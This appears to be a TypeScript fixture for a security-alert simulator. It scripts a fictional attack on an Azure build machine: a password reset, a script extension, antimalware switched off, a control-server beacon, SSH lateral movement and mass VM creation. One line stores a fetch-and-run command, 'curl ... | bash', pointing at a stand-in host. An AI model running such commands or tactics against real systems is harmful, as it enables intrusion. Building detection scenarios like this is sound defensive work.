import { machineManagement } from '../alertTypes/machineManagement.ts';
import { network } from '../alertTypes/network.ts';
import { serviceLayer } from '../alertTypes/serviceLayer.ts';
import { production } from '../directory.ts';
import { controlServerAt, deployer, platformOperator } from './cast.ts';
import { linuxMachine, productionSubscription } from './resources.ts';
import { story } from './story.ts';

const controlServer = controlServerAt(24);

const builder = linuxMachine(production, 'build', 'vm-build-05', 'westeurope');
const line = 'curl -fsSL https://paste.example/b | bash';
const facts = { account: 'svc-deploy@nordlicht.example', process: line };
const caller = { username: 'svc-deploy@nordlicht.example', 'user agent': 'python/3.11 azure-mgmt' };

/** Nobody signs in to the build machine: everything is done through Azure's own management channel. */
export const managementChannel = story('management-channel', [
  {
    key: 'reset',
    kind: machineManagement.passwordReset,
    at: '1d 06:12',
    on: builder,
    facts,
    details: caller,
    entities: [deployer],
  },
  {
    key: 'extension',
    kind: machineManagement.scriptExtension,
    at: '1d 06:20',
    on: builder,
    shouted: true,
    facts,
    details: { ...caller, 'extension Name': 'customScript', command: line },
    entities: [deployer],
  },
  {
    key: 'run-command',
    kind: machineManagement.runCommand,
    at: '1d 06:33',
    on: builder,
    facts,
    details: caller,
    entities: [deployer],
  },
  {
    key: 'real-time',
    kind: machineManagement.realTimeOff,
    at: '1d 06:35',
    on: builder,
    facts,
    details: { ...caller, 'real time antimalware protection enabled': 'False' },
  },
  {
    key: 'control',
    kind: network.controlServer,
    at: '1d 06:58',
    lastSeen: 9,
    on: builder,
    facts: { ip: '198.51.100.24' },
    details: { 'destination Port': '443', protocol: 'TCP' },
    entities: [controlServer],
  },
  {
    key: 'sideways',
    kind: network.outgoingSsh,
    at: '1d 07:45',
    lasts: 30,
    on: builder,
    facts: { count: '118', target: 'vm-parcel-api-02' },
    details: { 'destination Port': '22' },
  },
  {
    key: 'machines',
    kind: serviceLayer.machinesCreated,
    at: '1d 08:20',
    on: productionSubscription,
    facts: { ...facts, count: '12' },
    details: { ...caller, 'service type': 'Microsoft.Compute' },
    entities: [deployer, platformOperator],
  },
]);
